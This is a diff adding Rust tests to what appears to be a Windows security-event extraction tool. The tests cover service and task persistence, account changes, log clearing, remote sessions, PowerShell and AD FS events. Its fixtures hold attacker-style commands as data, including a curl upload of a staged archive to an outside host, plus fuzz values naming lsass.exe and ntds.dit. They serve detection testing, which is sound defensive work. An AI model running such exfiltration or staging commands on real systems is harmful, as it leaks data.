@@ -329,3 +329,221 @@ fn connections() {
     let row = [("SourceAddress", "::1"), ("DestAddress", "::1"), ("Direction", "%%14593")];
     assert!(all_shown(&security(5156, &row)).is_empty());
 }
+
+fn log(channel: &str, id: u32, row: &[(&str, &str)]) -> Extraction {
+    let mut row = row.to_vec();
+    row.push(("@host", "FS01"));
+    events(&shape("windows", channel, id), &[&row])
+}
+
+#[test]
+fn services_and_tasks() {
+    let row = by_ann(&[
+        ("ServiceName", "Up"),
+        ("ServiceFileName", "cmd /c copy C:\\a D:\\b"),
+        ("ServiceAccount", "LocalSystem"),
+    ]);
+    let found = security(4697, &row);
+    assert_eq!(classes(&found), [Class::Persistence]);
+    has(&found, &["session: fs01|0x4e13b2e", "Installed", "label: service Up", "SYSTEM"]);
+    has(&found, &["Staged, object: File { host: FS01, path: C:\\a }, via: Commanded", "to: D:\\b"]);
+    let row = [("ServiceName", "Up"), ("ImagePath", "C:\\a.exe -x"), ("UserID", "S-1-5-18")];
+    let found = log("System", 7045, &row);
+    has(&found, &["account: NT AUTHORITY\\SYSTEM", "Installed", "image: C:\\a.exe"]);
+    let content = "<Task><Actions><Exec><Command>C:\\a.exe</Command><Arguments>-x &amp; y</Arguments></Exec></Actions><Principals><UserId>S-1-5-18</UserId></Principals></Task>";
+    let row = by_ann(&[("TaskName", "\\Up"), ("TaskContent", content)]);
+    let found = security(4698, &row);
+    has(&found, &["Installed", "account: NT AUTHORITY\\SYSTEM", "command: \"C:\\\\a.exe -x & y\""]);
+    has(&security(4699, &row), &["Removed", "label: task \\Up"]);
+    let row = [("TaskName", "\\Up"), ("UserContext", "CORP\\ann")];
+    let found = log("Microsoft-Windows-TaskScheduler/Operational", 106, &row);
+    has(&found, &["account: CORP\\ann", "Installed"]);
+    let key = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Up";
+    let row = [("EventType", "SetValue"), ("TargetObject", key), ("Details", "C:\\a.exe")];
+    has(&sysmon(13, &row), &["Installed", "label: run key Up", "C:\\\\a.exe"]);
+}
+
+#[test]
+fn accounts() {
+    let target =
+        [("TargetUserName", "eve"), ("TargetDomainName", "CORP"), ("TargetSid", "S-1-5-21-9")];
+    let row = by_ann(&target);
+    has(&security(4720, &row), &["Created, kind: Account, account: CORP\\eve", "CORP\\ann"]);
+    has(&security(4724, &row), &["Rolled, kind: Password"]);
+    has(&security(4726, &row), &["Revoked, kind: Account"]);
+    let mut changed = row.clone();
+    changed.push(("PasswordLastSet", "%%1794"));
+    has_not(&security(4738, &changed), &["Rolled"]);
+    changed.push(("AllowedToDelegateTo", "cifs/fs01"));
+    has(&security(4738, &changed), &["Created, kind: Role, account: CORP\\eve", "cifs/fs01"]);
+    let row = by_ann(&[
+        ("TargetUserName", "Domänen-Admins"),
+        ("TargetDomainName", "CORP"),
+        ("TargetSid", "S-1-5-21-1-2-3-512"),
+        ("MemberName", "CN=eve,CN=Users,DC=corp,DC=example"),
+    ]);
+    let found = security(4728, &row);
+    has(&found, &["Created, kind: Role, account: CORP\\eve", "method: S-1-5-21-1-2-3-512"]);
+    let row = by_ann(&[
+        ("ObjectDN", "CN=eve,CN=Users,DC=corp,DC=example"),
+        ("ObjectClass", "user"),
+        ("AttributeLDAPDisplayName", "msDS-KeyCredentialLink"),
+        ("OperationType", "%%14674"),
+    ]);
+    has(&security(5136, &row), &["Created, kind: Password, account: corp\\eve"]);
+}
+
+#[test]
+fn losses() {
+    has(&security(1102, &by_ann(&[])), &["CORP\\ann", "kind: Cleared, channel: Security"]);
+    let found = log(
+        "System",
+        104,
+        &[("Provider_Name", "Microsoft-Windows-Eventlog"), ("LogFileCleared.Channel", "Setup")],
+    );
+    has(&found, &["kind: Cleared, channel: Setup"]);
+    has(&security(1100, &[]), &["kind: Stopped"]);
+    let row =
+        by_ann(&[("AuditPolicyChanges", "%%8448, %%8451"), ("SubcategoryGuid", "{0cce9215}")]);
+    let found = security(4719, &row);
+    has(&found, &["Narrowed", "what: {0cce9215}"]);
+    has(&found, &["Widened"]);
+    let row = [
+        ("PreviousTime", "2024-01-01T00:00:00.0000000Z"),
+        ("NewTime", "2024-01-01T01:00:00.0000000Z"),
+    ];
+    let found = security(4616, &row);
+    has(&found, &["ClockSet { from: 1704067200000000000, to: 1704070800000000000 }"]);
+    let row = [("Provider_Name", "Microsoft-Windows-Kernel-General")];
+    has(&log("System", 13, &row), &["kind: Down"]);
+    assert!(all_shown(&log("System", 13, &[("Provider_Name", "Other")])).is_empty());
+    let found = log("Microsoft-Windows-Windows Defender/Operational", 5001, &[]);
+    has(&found, &["kind: Stopped"]);
+}
+
+#[test]
+fn remote_ways() {
+    let row = [("User", "CORP\\ann"), ("Address", "10.0.1.5"), ("SessionID", "2")];
+    let found = log("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", 21, &row);
+    assert_eq!(classes(&found), [Class::Logon]);
+    has(&found, &["Opened, kind: RemoteInteractive, account: CORP\\ann", "address: 10.0.1.5"]);
+    let row = [("User", "CORP\\ann"), ("Address", "LOKAL")];
+    let found = log("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", 21, &row);
+    has(&found, &["kind: Interactive", "from: Peer { host: FS01 }"]);
+    let row =
+        [("connection", "srv.corp.example/wsman?PSVersion=5.1"), ("Execution_ProcessID", "7")];
+    let found = log("Microsoft-Windows-WinRM/Operational", 6, &row);
+    has(&found, &["pid: 7", "AskedElsewhere, kind: RemoteShell", "to: Peer { host: srv }"]);
+    let row = [("ClientIP", "[10.0.2.16]:59407")];
+    let found = log("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", 131, &row);
+    has(&found, &["Seen", "from: Peer { address: 10.0.2.16, port: 59407 }"]);
+}
+
+#[test]
+fn scripts() {
+    let channel = "Microsoft-Windows-PowerShell/Operational";
+    let row = [
+        ("ScriptBlockText", "Compress-Archive C:\\Plans o.zip"),
+        ("Execution_ProcessID", "77"),
+        ("UserID", "S-1-5-21-1"),
+    ];
+    let found = log(channel, 4104, &row);
+    assert_eq!(classes(&found), [Class::Script]);
+    has(&found, &["step: Script, process: ProcessRef { pid: 77 }"]);
+    has(&found, &["kind: Staged, object: File { host: FS01, path: C:\\Plans }", "to: o.zip"]);
+    let row = [
+        ("CommandLine", "curl -T o.7z https://x.example/u"),
+        ("CurrentDirectory", "C:\\t\\"),
+        ("ProcessGuid", "{a}"),
+    ];
+    let found = sysmon(1, &row);
+    has(&found, &["guid: a", "server_name: x.example", "FileSent { name: o.7z", "upload: true"]);
+    has(&found, &["kind: Staged, object: File { host: WS01, path: C:\\t\\o.7z }"]);
+}
+
+#[test]
+fn federation() {
+    let row = [
+        ("Provider_Name", "AD FS Auditing"),
+        ("Data", "8f4a0c1e-0000-4000-8000-000000000001"),
+        (
+            "Data",
+            "<AuditBase><UserId>CORP\\ann</UserId><IpAddress>10.0.1.5</IpAddress></AuditBase>",
+        ),
+    ];
+    let found = log("Security", 1200, &row);
+    assert_eq!(classes(&found), [Class::SignIn]);
+    has(&found, &["Issued, kind: Token, account: CORP\\ann", "address: 10.0.1.5"]);
+    let row = [("PipeName", "\\MICROSOFT##WID\\tsql\\query"), ("Image", "C:\\a.exe")];
+    has(&sysmon(18, &row), &["Taken, kind: SigningKey, everyone: true"]);
+}
+
+mod properties {
+    use proptest::prelude::*;
+
+    use super::super::fields::FIELDS;
+    use crate::extract::testing::{all_shown, events, shape};
+
+    const CHANNELS: &[&str] = &[
+        "Security",
+        "System",
+        "Windows PowerShell",
+        "Microsoft-Windows-Sysmon/Operational",
+        "Microsoft-Windows-PowerShell/Operational",
+        "Microsoft-Windows-TaskScheduler/Operational",
+        "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
+        "Microsoft-Windows-WinRM/Operational",
+        "Microsoft-Windows-Bits-Client/Operational",
+        "",
+    ];
+
+    const VALUES: &[&str] = &[
+        "0x0",
+        "0",
+        "-",
+        "%%1842",
+        "0x3e7",
+        "{00000000-0000-0000-0000-000000000000}",
+        "\\",
+        "\\\\",
+        "S-1-5-18",
+        "S-1-5-21-1",
+        "::1",
+        "fe80::1%3",
+        "10.0.0.1",
+        "CN=",
+        "cn=a\\,b,DC=",
+        "a\\b",
+        "a@b",
+        "lsass.exe",
+        "<Command>",
+        "</Command>",
+        "\u{130}",
+        "99999999999999999999",
+        "-1",
+        "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2",
+        "\\\\*\\C$",
+        "\\\\*\\IPC$",
+        "ntds.dit",
+        "cmd /c \"",
+    ];
+
+    proptest! {
+        #[test]
+        fn whatever_fields_hold(
+            channel in prop::sample::select(CHANNELS),
+            id in prop_oneof![0_u32..30, 1100_u32..1205, 4600_u32..5160, 0_u32..9000],
+            row in prop::collection::vec(
+                (prop::sample::select(FIELDS), prop_oneof![prop::sample::select(VALUES).prop_map(str::to_owned), "\\PC{0,12}"]),
+                0..24,
+            ),
+        ) {
+            let mut row: Vec<(&str, &str)> = row.iter().map(|(f, v)| (*f, v.as_str())).collect();
+            row.push(("@host", "FS01"));
+            let found = events(&shape("windows", channel, id), &[&row]);
+            for text in all_shown(&found) {
+                prop_assert!(!text.contains("|0x0,") && !text.contains("|0x0 "), "{}", text);
+            }
+        }
+    }
+}
